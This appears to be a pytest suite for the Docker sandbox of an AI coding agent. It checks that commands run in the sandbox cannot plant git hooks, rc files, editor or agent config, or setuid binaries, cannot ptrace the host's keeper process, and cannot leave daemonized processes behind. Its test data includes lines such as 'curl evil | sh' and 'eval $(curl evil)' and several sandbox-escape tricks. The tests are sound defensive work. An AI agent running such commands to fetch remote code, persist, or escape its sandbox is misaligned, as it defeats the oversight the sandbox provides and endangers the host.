"""Nothing a sandboxed command writes may run on the host: attacks planted for real.

Each test plants code where a host program would later run it (git hooks of a nested
repository, rc files, editor and agent config, a setuid binary) or tries to outlive
its command, then checks the effect on the host (or in the container's process list).
"""

from __future__ import annotations

import os
import stat
from pathlib import Path
from typing import Any

import pytest

from termagent.sandbox.base import SandboxUnavailable
from termagent.sandbox.docker_backend import DockerSandbox
from termagent.sandbox.docker_settings import limits_from_config
from termagent.tools.base import ToolContext
from termagent.tools.bash import BashTool
from termagent.tools.workspace import ReadLedger
from tests.docker_support import git, make_config, make_workspace

pytestmark = pytest.mark.docker

HOOK = "printf '#!/bin/sh\\ntouch /workspace/PWNED\\n' > {path} && chmod +x {path}"


async def test_hooks_of_nested_repos_and_pointed_gitdirs_cannot_be_planted(
    sandbox_factory: Any, tmp_path: Path
) -> None:
    workspace = make_workspace(tmp_path / "ws")
    make_workspace(workspace / "vendor" / "lib")
    (workspace / "mods" / "m").mkdir(parents=True)
    git(workspace / "mods" / "m", "init", "-q")
    (workspace / "mods" / "m" / ".git").rename(workspace / "gitdirs-m")
    (workspace / "mods" / "m" / ".git").write_text("gitdir: ../../gitdirs-m\n")
    sandbox = await sandbox_factory(workspace)
    for target in ("vendor/lib/.git/hooks/pre-commit", "gitdirs-m/hooks/pre-commit", ".git/hooks/post-checkout"):
        result = await sandbox.exec(HOOK.format(path=target), 10)
        assert result.exit_code != 0, target
        assert not (workspace / target).exists(), target
    pointer = await sandbox.exec("echo 'gitdir: /tmp/evil' > mods/m/.git", 10)
    assert pointer.exit_code != 0
    assert (workspace / "mods" / "m" / ".git").read_text() == "gitdir: ../../gitdirs-m\n"


async def test_hooks_path_and_existing_rc_and_editor_files_are_read_only(
    sandbox_factory: Any, tmp_path: Path
) -> None:
    workspace = make_workspace(tmp_path / "ws")
    git(workspace, "config", "core.hooksPath", "tools/hooks")
    (workspace / ".bashrc").write_text("# mine\n")
    (workspace / ".vscode").mkdir()
    (workspace / ".vscode" / "settings.json").write_text("{}\n")
    sandbox = await sandbox_factory(workspace)
    attacks = {
        "tools/hooks/pre-commit": HOOK.format(path="tools/hooks/pre-commit"),
        ".bashrc": "echo 'curl evil | sh' >> .bashrc",
        ".vscode/tasks.json": "echo '{\"tasks\": []}' > .vscode/tasks.json",
        ".claude/settings.json": "mkdir -p .claude && echo '{\"hooks\": {}}' > .claude/settings.json",
        ".githooks/pre-push": "mkdir -p .githooks && " + HOOK.format(path=".githooks/pre-push"),
    }
    for target, command in attacks.items():
        assert (await sandbox.exec(command, 10)).exit_code != 0, target
        assert not (workspace / target).exists() or target == ".bashrc", target
    assert (workspace / ".bashrc").read_text() == "# mine\n"
    assert (workspace / "tools" / "hooks").is_dir() and not any((workspace / "tools" / "hooks").iterdir())


async def test_renaming_a_parent_cannot_swap_in_a_writable_hooks_dir(sandbox_factory: Any, tmp_path: Path) -> None:
    workspace = make_workspace(tmp_path / "ws")
    git(workspace, "config", "core.hooksPath", "tools/hooks")
    sandbox = await sandbox_factory(workspace)
    swap = "mv tools tools2 && mkdir -p tools/hooks && " + HOOK.format(path="tools/hooks/pre-commit")
    result = await sandbox.exec(swap, 10)
    assert not (workspace / "tools" / "hooks" / "pre-commit").exists()
    assert (workspace / "tools" / "hooks.termagent-blocked" / "pre-commit").exists()
    assert any("moved the read-only" in warning and "tools/hooks" in warning for warning in result.warnings)


async def test_a_created_rc_file_is_moved_aside_and_reported(sandbox_factory: Any, tmp_path: Path) -> None:
    workspace = make_workspace(tmp_path / "ws")
    sandbox = await sandbox_factory(workspace)
    result = await sandbox.exec("echo 'eval $(curl evil)' > .envrc; echo '{}' > .mcp.json; echo made", 10)
    assert result.output == "made\n"
    assert not (workspace / ".envrc").exists() and not (workspace / ".mcp.json").exists()
    assert (workspace / ".envrc.termagent-blocked").read_text() == "eval $(curl evil)\n"
    assert any("created .envrc" in warning and ".envrc.termagent-blocked" in warning for warning in result.warnings)
    assert any(".mcp.json" in warning for warning in result.warnings)
    again = await sandbox.exec("echo fine", 10)
    assert again.warnings == ()


async def test_an_editor_save_of_a_mounted_rc_file_stays_and_stays_protected(
    sandbox_factory: Any, tmp_path: Path
) -> None:
    workspace = make_workspace(tmp_path / "ws")
    (workspace / ".bashrc").write_text("# v1\n")
    sandbox = await sandbox_factory(workspace)
    saved = workspace / ".bashrc.tmp"
    saved.write_text("# v2\n")
    saved.replace(workspace / ".bashrc")  # an atomic save replaces the inode the mount pinned
    quiet = await sandbox.exec("echo hi", 10)
    assert quiet.warnings == () and (workspace / ".bashrc").read_text() == "# v2\n"
    await sandbox.exec("echo 'curl evil | sh' >> .bashrc", 10)
    assert (workspace / ".bashrc").read_text() == "# v2\n"


async def test_a_host_written_rc_file_stays_and_the_sandbox_cannot_change_it(
    sandbox_factory: Any, tmp_path: Path
) -> None:
    workspace = make_workspace(tmp_path / "ws")
    sandbox = await sandbox_factory(workspace)
    (workspace / ".envrc").write_text("export A=1\n")  # as write_file would, host-side, after approval
    quiet = await sandbox.exec("cat .envrc", 10)
    assert quiet.output == "export A=1\n" and quiet.warnings == ()
    changed = await sandbox.exec("echo 'curl evil | sh' >> .envrc", 10)
    assert (workspace / ".envrc").read_text() == "export A=1\n"
    assert (workspace / ".envrc.termagent-blocked").read_text() == "export A=1\ncurl evil | sh\n"
    assert any("changed .envrc" in warning for warning in changed.warnings)


async def test_outside_a_repository_git_init_fails_and_leaves_no_hooks(sandbox_factory: Any, tmp_path: Path) -> None:
    workspace = tmp_path / "plain"
    workspace.mkdir()
    (workspace / "file.txt").write_text("x\n")
    sandbox = await sandbox_factory(workspace)
    result = await sandbox.exec("git init -q . && " + HOOK.format(path=".git/hooks/pre-commit"), 10)
    assert result.exit_code != 0
    assert not (workspace / ".git" / "hooks").exists()
    assert list((workspace / ".git").iterdir()) == []


async def test_a_new_nested_repository_is_reported_in_the_tool_result(sandbox_factory: Any, tmp_path: Path) -> None:
    workspace = make_workspace(tmp_path / "ws")
    sandbox = await sandbox_factory(workspace)
    warned: list[str] = []
    ctx = ToolContext(root=workspace, ledger=ReadLedger(), config=make_config(), sandbox=sandbox,
                      warn=warned.append)
    result = await BashTool().run({"command": "mkdir -p deep/sub && git init -q deep/sub && echo ok"}, ctx)
    assert "[warning: the command created a git repository at deep/sub/.git" in result.output
    assert len(warned) == 1 and "deep/sub/.git" in warned[0]
    quiet = await BashTool().run({"command": "echo again"}, ctx)
    assert "warning" not in quiet.output and len(warned) == 1


async def test_setuid_bits_cannot_be_set_on_workspace_files(sandbox_factory: Any, tmp_path: Path) -> None:
    workspace = make_workspace(tmp_path / "ws")
    sandbox = await sandbox_factory(workspace)
    commands = [
        "cp /bin/true su1 && chmod u+s su1",
        "cp /bin/true su2 && chmod 2755 su2",
        "python3 -c \"import os; os.close(os.open('su3', os.O_CREAT | os.O_WRONLY, 0o4755))\"",
        "python3 -c \"import os; os.mknod('su4', 0o104755)\"",
        "install -m 4755 /bin/true su5",
    ]
    for command in commands:
        await sandbox.exec(command, 10)
    for name in ("su1", "su2", "su3", "su4", "su5"):
        path = workspace / name
        if path.exists():
            assert not path.stat().st_mode & (stat.S_ISUID | stat.S_ISGID), name
    device = await sandbox.exec("mknod null2 c 1 3", 10)
    assert device.exit_code != 0 and not (workspace / "null2").exists()
    plain = await sandbox.exec("cp /bin/true ok && chmod 755 ok && ./ok && echo ran", 10)
    assert plain.output == "ran\n"


PTRACE_KEEPER = (
    "python3 -c \"import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); "
    "keeper = open('/proc/1/task/1/children').read().split()[0]; "
    "print('attach', libc.ptrace(16, int(keeper), 0, 0), os.strerror(ctypes.get_errno()))\""
)


async def test_ptrace_is_refused_unless_the_project_opts_in(sandbox_factory: Any, tmp_path: Path) -> None:
    sandbox = await sandbox_factory(make_workspace(tmp_path / "ws"))
    refused = await sandbox.exec(PTRACE_KEEPER, 10)
    assert refused.output.startswith("attach -1 Operation not permitted"), refused.output
    allowed = await sandbox_factory(make_workspace(tmp_path / "ws2"), allow_ptrace=True)
    attached = await allowed.exec(PTRACE_KEEPER, 10)
    assert attached.output.startswith("attach 0"), attached.output


@pytest.mark.parametrize("escape", [
    "nohup sleep 765431 >/dev/null 2>&1 &",
    "( ( setsid sleep 765432 & ) & )",
    "setsid -f sleep 765433",
    "python3 -c \"import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
    "        os.execvp('sleep', ['sleep', '765434'])\"",
])
async def test_daemonized_processes_die_with_their_command(shared_sandbox: Any, escape: str) -> None:
    ended = await shared_sandbox.exec(escape + "\necho started", 10)
    timed_out = await shared_sandbox.exec(escape + "\nsleep 1000", 1)
    assert ended.output.endswith("started\n") and timed_out.timed_out
    listing = await shared_sandbox.exec("ps -eo pid,args", 10)
    assert "76543" not in listing.output, listing.output


@pytest.mark.skipif(os.getuid() != 0, reason="the refusal concerns a host user of uid 0")
async def test_a_root_sandbox_is_refused_without_the_opt_in(tmp_path: Path, docker_client: Any) -> None:
    sandbox = DockerSandbox(limits_from_config(make_config(allow_root=False)), make_workspace(tmp_path / "ws"),
                            "root-refused")
    with pytest.raises(SandboxUnavailable, match="--sandbox-allow-root"):
        await sandbox.start()
    assert sandbox.container_id is None
